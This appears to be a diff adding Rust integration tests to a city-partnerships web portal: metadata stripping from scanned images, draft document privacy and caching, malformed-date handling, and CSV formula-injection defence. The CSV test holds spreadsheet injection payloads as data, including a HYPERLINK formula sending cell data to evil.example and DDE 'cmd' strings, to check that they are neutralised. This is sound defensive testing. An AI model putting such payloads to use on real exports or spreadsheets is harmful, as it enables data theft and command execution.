@@ -1,9 +1,11 @@
 //! Partnerships over the router: who may record what (a refused call changes no byte), drafts
-//! never reach visitors, the status as at a year on the map and in the table, the quiet list,
-//! scanned agreements, and the open data read back and compared with the store.
+//! never reach visitors (nor do their documents), the status as at a year on the map and in the
+//! table, the quiet list, scanned agreements (published without an image's metadata), hostile
+//! dates, and the open data read back, compared with the store and safe to open in a
+//! spreadsheet.
 
 use axum::body::Body;
-use http::header::{CONTENT_DISPOSITION, CONTENT_TYPE, ETAG, IF_NONE_MATCH};
+use http::header::{CACHE_CONTROL, CONTENT_DISPOSITION, CONTENT_TYPE, ETAG, IF_NONE_MATCH};
 use http::{Request, StatusCode};
 use serde_json::Value;
 
@@ -569,4 +571,319 @@ fn entry_texts_are_inert_on_every_page() {
             }
         }
     });
+}
+
+/// The link to the current agreement's document on `page`.
+fn document_href(page: &str) -> Option<String> {
+    let at = page.find("/documents/")?;
+    Some(page[at..].chars().take_while(|c| *c != '"').collect())
+}
+
+/// GETs `uri`, with the session `cookie` if given.
+async fn download(
+    app: &TestApp,
+    uri: &str,
+    cookie: Option<&str>,
+) -> (http::response::Parts, Vec<u8>) {
+    let mut request = Request::get(uri);
+    if let Some(cookie) = cookie {
+        request = request.header(http::header::COOKIE, cookie);
+    }
+    app.send(request.body(Body::empty()).unwrap()).await
+}
+
+/// An EXIF block (little-endian TIFF) naming the camera and holding a GPS IFD: latitude
+/// reference and the processing method, which says "GPS".
+fn exif_with_camera_and_position() -> Vec<u8> {
+    let entry = |tag: u16, kind: u16, count: u32, value: [u8; 4]| {
+        [
+            &tag.to_le_bytes()[..],
+            &kind.to_le_bytes(),
+            &count.to_le_bytes(),
+            &value,
+        ]
+        .concat()
+    };
+    let model = b"Canon EOS 5D Mark IV\0";
+    let method = b"ASCII\0\0\0GPS";
+    // IFD0 at 8 with two entries, then the model's text, then the GPS IFD with two entries, then
+    // the method's text.
+    let model_at = 8 + 2 + 2 * 12 + 4;
+    let gps_at = model_at + model.len() as u32;
+    let method_at = gps_at + 2 + 2 * 12 + 4;
+    [
+        &b"II*\0\x08\0\0\0"[..],
+        &2u16.to_le_bytes(),
+        &entry(0x0110, 2, model.len() as u32, model_at.to_le_bytes()),
+        &entry(0x8825, 4, 1, gps_at.to_le_bytes()),
+        &0u32.to_le_bytes(),
+        model,
+        &2u16.to_le_bytes(),
+        &entry(0x0001, 2, 2, *b"N\0\0\0"),
+        &entry(0x001B, 7, method.len() as u32, method_at.to_le_bytes()),
+        &0u32.to_le_bytes(),
+        method,
+    ]
+    .concat()
+}
+
+fn holds(haystack: &[u8], needle: &[u8]) -> bool {
+    haystack.windows(needle.len()).any(|w| w == needle)
+}
+
+#[test]
+fn a_scanned_image_is_published_without_its_metadata() {
+    common::block_on(async {
+        let (app, _, admin) = common::staffed().await;
+        let pixels =
+            image::RgbImage::from_fn(40, 30, |x, y| image::Rgb([x as u8 * 6, y as u8 * 8, 90]));
+        let mut scan = Vec::new();
+        let mut encoder = image::codecs::jpeg::JpegEncoder::new_with_quality(&mut scan, 90);
+        image::ImageEncoder::set_exif_metadata(&mut encoder, exif_with_camera_and_position())
+            .unwrap();
+        encoder.encode_image(&pixels).unwrap();
+        let secrets = [&b"Exif"[..], b"GPS", b"Canon EOS"];
+        for secret in secrets {
+            assert!(holds(&scan, secret), "the upload carries it");
+        }
+        let fields = entry("ruse", "agreement", "protocol", "");
+        let (status, body) = save(&app, &fields, Some(&scan), Some(&admin)).await;
+        assert!(saved(status), "{body}");
+        let (_, page) = app.get("/cities/ruse").await;
+        let href = document_href(&page).expect("a link to the document");
+        assert!(href.ends_with(".jpg"), "{href}");
+        let (parts, bytes) = download(&app, &href, None).await;
+        assert_eq!(parts.status, StatusCode::OK);
+        assert_eq!(parts.headers[CONTENT_TYPE], "image/jpeg");
+        for secret in secrets {
+            assert!(
+                !holds(&bytes, secret),
+                "{} survived",
+                String::from_utf8_lossy(secret)
+            );
+        }
+        let image = image::load_from_memory_with_format(&bytes, image::ImageFormat::Jpeg)
+            .expect("still a JPEG");
+        assert_eq!((image.width(), image.height()), (40, 30));
+        let stored = app
+            .dir
+            .path()
+            .join("documents")
+            .join(href.trim_start_matches("/documents/"));
+        assert_eq!(std::fs::read(stored).unwrap(), bytes, "stored as served");
+        // An image that does not decode is not taken, whatever its first bytes say.
+        let before = app.db_bytes();
+        let (status, body) = save(&app, &fields, Some(&scan[..200]), Some(&admin)).await;
+        assert_eq!(status, StatusCode::BAD_REQUEST, "a broken image: {body}");
+        assert!(body.contains("err_document_type"), "{body}");
+        assert_eq!(app.db_bytes(), before);
+    });
+}
+
+#[test]
+fn a_draft_s_document_is_for_editors_until_it_is_published() {
+    common::block_on(async {
+        let (app, editor, admin) = common::staffed().await;
+        let mut fields = entry("ruse", "agreement", "memorandum", "");
+        fields.retain(|(k, _)| *k != "published");
+        let pdf = b"%PDF-1.4\n% a draft memorandum\n%%EOF\n";
+        let (status, body) = save(&app, &fields, Some(pdf), Some(&admin)).await;
+        assert!(saved(status), "{body}");
+        let (_, page) = app.get_as("/cities/ruse", &admin).await;
+        let href = document_href(&page).expect("editors see the draft's document");
+        let (_, public) = app.get("/cities/ruse").await;
+        assert!(!public.contains(&href));
+        for cookie in [&editor, &admin] {
+            let (parts, bytes) = download(&app, &href, Some(cookie)).await;
+            assert_eq!(parts.status, StatusCode::OK);
+            assert_eq!(bytes, pdf);
+            let caching = parts.headers[CACHE_CONTROL].to_str().unwrap();
+            assert!(
+                caching.contains("no-store") && caching.contains("private"),
+                "{caching}"
+            );
+            assert!(!caching.contains("public"), "{caching}");
+        }
+        for cookie in [None, Some("twincity_session=forged")] {
+            let (parts, bytes) = download(&app, &href, cookie).await;
+            assert_eq!(
+                parts.status,
+                StatusCode::NOT_FOUND,
+                "not 403: it is not there"
+            );
+            assert!(!holds(&bytes, b"memorandum"));
+            assert_eq!(parts.headers[CACHE_CONTROL], "no-store");
+            let (missing, _) =
+                download(&app, &href.replace(&href[11..23], "000000000000"), cookie).await;
+            assert_eq!(missing.status, StatusCode::NOT_FOUND);
+            assert_eq!(
+                missing.headers[CACHE_CONTROL], "no-store",
+                "a draft's reads as a missing one"
+            );
+        }
+        let id = entry_id(&page, "agreement").expect("the draft");
+        let mut fields = entry("ruse", "agreement", "memorandum", "");
+        fields.push(("id", &id));
+        fields.push(("version", "1"));
+        let (status, body) = save(&app, &fields, None, Some(&admin)).await;
+        assert!(saved(status), "{body}");
+        let (parts, bytes) = download(&app, &href, None).await;
+        assert_eq!(parts.status, StatusCode::OK, "published, it is everyone's");
+        assert_eq!(bytes, pdf);
+        assert!(parts.headers[CACHE_CONTROL]
+            .to_str()
+            .unwrap()
+            .starts_with("public"));
+    });
+}
+
+#[test]
+fn a_date_with_a_character_of_several_bytes_is_refused_not_a_crash() {
+    common::block_on(async {
+        let (app, editor, _) = common::staffed().await;
+        // "198é-01-1" is ten bytes with the fourth inside "é"; the rest are near misses.
+        for (field, date) in [
+            ("date", "198é-01-1"),
+            ("date", "198é-01-01"),
+            ("date", "19€-01-01"),
+            ("date", "2😀-01-01"),
+            ("end_date", "202é-01-1"),
+        ] {
+            let mut fields = entry("ruse", "visit", "to_partner", "Delegation");
+            fields.retain(|(k, _)| *k != field);
+            fields.push((field, date));
+            let before = app.db_bytes();
+            let (status, body) = save(&app, &fields, None, Some(&editor)).await;
+            assert_eq!(status, StatusCode::BAD_REQUEST, "{field}={date}: {body}");
+            assert!(body.contains(&format!("\"field\":\"{field}\"")), "{body}");
+            assert_eq!(app.db_bytes(), before);
+        }
+    });
+}
+
+/// The `update_city` call that saves `city`'s facts with `name` or `country` (in `lang`) set to
+/// `text`, from the version a seeded city has.
+fn city_update(app: &TestApp, slug: &'static str, lang: &str, field: &str, text: &str) -> Value {
+    let lang_of = if lang == "ru" {
+        app::i18n::Lang::Ru
+    } else {
+        app::i18n::Lang::En
+    };
+    let (_, city) = app
+        .store
+        .call_blocking(move |c| app::store::cities::city_by_slug(c, lang_of, slug))
+        .unwrap()
+        .unwrap();
+    let mut city = serde_json::to_value(city).unwrap();
+    if field == "name" {
+        city["name"] = text.into();
+    } else {
+        city["country"] = text.into();
+        city["country_name"] = text.into();
+    }
+    serde_json::json!({"city": city, "base_version": 1, "lang": lang})
+}
+
+#[test]
+fn csv_cells_that_begin_like_formulas_reach_spreadsheets_inert() {
+    common::block_on(async {
+        let (app, _, admin) = common::staffed().await;
+        let attacks = [
+            (
+                "ruse",
+                "en",
+                "name",
+                2,
+                r#"=HYPERLINK("http://evil.example/?"&A1,"Ruse")"#,
+            ),
+            ("turin", "en", "country", 4, "+cmd|' /C calc'!A0"),
+            ("chemnitz", "ru", "name", 3, "-2+3+cmd|' /C calc'!A0"),
+            (
+                "coventry",
+                "ru",
+                "country",
+                5,
+                "@SUM(1+1)*cmd|' /C calc'!A0",
+            ),
+        ];
+        for (slug, lang, field, _, text) in attacks {
+            let request = city_update(&app, slug, lang, field, text);
+            let (parts, body) = app
+                .post_json("/api/update_city", &request, Some(&admin))
+                .await;
+            assert_eq!(parts.status, StatusCode::OK, "{slug}: {body}");
+        }
+        let (status, text) = app.get("/open-data/partnerships.csv").await;
+        assert_eq!(status, StatusCode::OK);
+        let rows = csv_rows(&text);
+        for (slug, _, _, column, attack) in attacks {
+            let row = rows.iter().find(|r| &r[0] == slug).unwrap();
+            assert_eq!(row[column], format!("'{attack}"), "{slug}");
+            let quoted = format!("\"'{}", attack.replace('"', "\"\""));
+            assert!(text.contains(&quoted), "{slug}: quoted and marked");
+        }
+        for line in text.lines() {
+            for lead in ['=', '+', '@'] {
+                assert!(
+                    !line.contains(&format!(",{lead}")) && !line.contains(&format!(",\"{lead}")),
+                    "{line}"
+                );
+            }
+        }
+        // Numbers are the portal's own and stay numbers, negative ones too.
+        let toronto = rows.iter().find(|r| &r[0] == "toronto").unwrap();
+        assert_eq!(&toronto[10], "-79.38");
+        assert!(text.contains(",43.65,-79.38,"), "bare, unquoted");
+        for row in &rows {
+            for column in [9, 10, 13, 14, 15, 16, 17, 18, 19] {
+                assert!(row[column].parse::<f64>().is_ok(), "{row:?}");
+            }
+        }
+    });
+}
+
+/// Text where an entry's date belongs: anything short, and a real date with one character
+/// replaced by any other, cut to ten bytes or not.
+fn any_date() -> impl proptest::strategy::Strategy<Value = String> {
+    use proptest::prelude::*;
+    prop_oneof![
+        ".{0,12}",
+        (0usize..10, any::<char>(), any::<bool>()).prop_map(|(at, c, cut)| {
+            let mut date: String = "1988-09-13"
+                .chars()
+                .enumerate()
+                .map(|(i, d)| if i == at { c } else { d })
+                .collect();
+            while cut && date.len() > 10 {
+                date.pop();
+            }
+            date
+        }),
+    ]
+}
+
+proptest::proptest! {
+    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(32))]
+
+    /// Any text as an entry's first and last day: saved or refused with a 400, never a crash.
+    #[test]
+    fn any_text_as_an_entry_date_is_taken_or_refused_never_a_crash(
+        date in any_date(),
+        end in any_date(),
+    ) {
+        common::block_on(async {
+            let app = common::app();
+            app.add_user("olga", app::auth::Role::Editor);
+            let editor = app.login("olga").await;
+            let mut fields = entry("ruse", "visit", "to_partner", "Delegation");
+            fields.retain(|(k, _)| *k != "date");
+            fields.push(("date", &date));
+            fields.push(("end_date", &end));
+            let (status, body) = save(&app, &fields, None, Some(&editor)).await;
+            assert!(
+                saved(status) || status == StatusCode::BAD_REQUEST,
+                "{date:?} {end:?} → {status} {body}"
+            );
+        });
+    }
 }
